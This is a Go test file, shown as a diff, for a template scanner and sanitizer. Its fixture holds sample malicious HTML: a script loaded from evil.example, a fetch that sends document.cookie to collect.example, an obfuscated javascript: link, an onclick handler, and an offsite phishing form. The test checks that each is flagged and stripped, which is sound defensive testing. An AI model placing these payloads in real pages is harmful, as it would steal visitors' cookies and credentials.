@@ -0,0 +1,79 @@
+// Copyright (c) 2026 Madalin Gabriel Ignisca <hi@madalin.me>
+// Copyright (c) 2026 Vlah Software House SRL <contact@vlah.sh>
+// All rights reserved. See LICENSE for details.
+
+package engine
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestScanTemplateSafe(t *testing.T) {
+	src := `<!DOCTYPE html>
+<html>
+<head>
+  <script src="https://cdn.tailwindcss.com"></script>
+  <script>tailwind.config = { theme: { extend: {} } }</script>
+  <script type="application/ld+json">{"@context": "https://schema.org"}</script>
+</head>
+<body x-data="{ open: false }">
+  <button @click="open = !open" class="{{ if .Active }}font-bold{{ end }}">Menu</button>
+  <a href="/{{ .Slug }}">{{ .Title }}</a>
+  <img src="{{ .FeaturedImageURL }}" alt="{{ .FeaturedImageAlt }}" width="1" height="1">
+  <form action="/search"><input name="q"></form>
+</body>
+</html>`
+	if issues := ScanTemplate(src); len(issues) != 0 {
+		t.Errorf("ScanTemplate: got %v, want none", issues)
+	}
+	if got, _ := SanitizeTemplate(src); got != src {
+		t.Errorf("SanitizeTemplate changed a safe template:\n%s", got)
+	}
+}
+
+func TestSanitizeTemplate(t *testing.T) {
+	src := `<head>
+<script src="https://evil.example/x.js"></script>
+<script>fetch("https://collect.example/?c=" + document.cookie)</script>
+</head>
+<body>
+<a href=" java&#x09;script:alert(1)" class="link">Click</a>
+<button type="button" onclick="steal()" class="btn">Go</button>
+<iframe src="https://ads.example/frame"><p>fallback</p></iframe>
+<form action="https://phish.example/login" method="post"><input name="password"></form>
+<img src="https://track.example/p.gif" style="display: none">
+<p>{{ .Body }}</p>
+</body>`
+	got, issues := SanitizeTemplate(src)
+
+	wantKinds := []string{IssueScript, IssueScript, IssueJavaScriptURL, IssueEventHandler, IssueIframe, IssueOffsiteForm, IssueTrackingPixel}
+	if len(issues) != len(wantKinds) {
+		t.Fatalf("issues: got %v", issues)
+	}
+	for i, kind := range wantKinds {
+		if issues[i].Kind != kind {
+			t.Errorf("issue %d: got %s, want %s", i, issues[i].Kind, kind)
+		}
+	}
+	if issues[0].Line != 2 || issues[0].Detail != "script from evil.example" {
+		t.Errorf("first issue: got %+v", issues[0])
+	}
+	if issues[6].Line != 10 {
+		t.Errorf("tracking pixel line: got %d, want 10", issues[6].Line)
+	}
+
+	for _, gone := range []string{"evil.example", "collect.example", "javascript", "onclick", "ads.example", "fallback", "phish.example", "track.example"} {
+		if strings.Contains(got, gone) {
+			t.Errorf("sanitized template still contains %q:\n%s", gone, got)
+		}
+	}
+	for _, kept := range []string{`<a class="link">Click</a>`, `<button type="button" class="btn">Go</button>`, `<form method="post">`, `<p>{{ .Body }}</p>`} {
+		if !strings.Contains(got, kept) {
+			t.Errorf("sanitized template lost %q:\n%s", kept, got)
+		}
+	}
+	if issues := ScanTemplate(got); len(issues) != 0 {
+		t.Errorf("sanitized template still has issues: %v", issues)
+	}
+}